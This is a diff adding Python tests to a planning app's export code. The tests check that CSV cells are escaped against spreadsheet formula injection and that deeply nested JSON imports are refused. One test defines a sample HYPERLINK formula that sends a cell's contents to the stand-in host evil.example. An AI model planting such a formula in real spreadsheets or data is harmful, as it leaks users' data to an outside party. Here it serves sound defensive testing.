@@ -239,3 +239,36 @@ def test_a_version_3_deadline_keeps_its_date(tmp_path):
         plan.conn.executescript("PRAGMA user_version = 3;")
     with PlanFile.open(path) as plan:
         assert plan.state.deadlines == {("google", 1): 5, ("microsoft", 1): 0}
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"click")'
+
+
+def test_no_cell_of_an_exported_csv_runs_as_a_formula_and_the_data_round_trips(plan, tmp_path):
+    import csv
+
+    c.SetVote("Organisation", "cd", "+Ben", 2, FORMULA).apply(plan)
+    c.AddEvidence("Organisation", "ci", "@SUM(1,2)").apply(plan)
+    c.AddEvidence("Organisation", "ci", "-2 for the budget").apply(plan)
+    out = tmp_path / "x.csv"
+    write_export(plan, out)
+    with out.open(newline="", encoding="utf-8") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert FORMULA not in cells and "'" + FORMULA in cells
+    assert not any(cell[:1] in "=+-@" for cell in cells if cell)
+    with PlanFile.create(tmp_path / "other.mlplan") as other:  # the app's own import reads them back exactly
+        other.write(import_rows(other, read_rows(out), str(out)))
+        got = other.state.assessment("Organisation")
+        assert got.votes["cd"][0].participant == "+Ben" and got.votes["cd"][0].note == FORMULA
+        assert {e.note for e in got.entries["ci"].evidence} == {"@SUM(1,2)", "-2 for the budget"}
+    exact = tmp_path / "x.json"  # JSON stays exact
+    write_export(plan, exact)
+    assert FORMULA in exact.read_text(encoding="utf-8").replace('\\"', '"')
+
+
+def test_a_json_import_nested_100000_deep_is_refused_in_words(plan, tmp_path):
+    deep = tmp_path / "deep.json"
+    deep.write_text("[" * 100_000 + "]" * 100_000)
+    with pytest.raises(PlanFileError) as info:
+        read_rows(deep)
+    assert "nested too deeply" in str(info.value) and str(deep) in str(info.value)
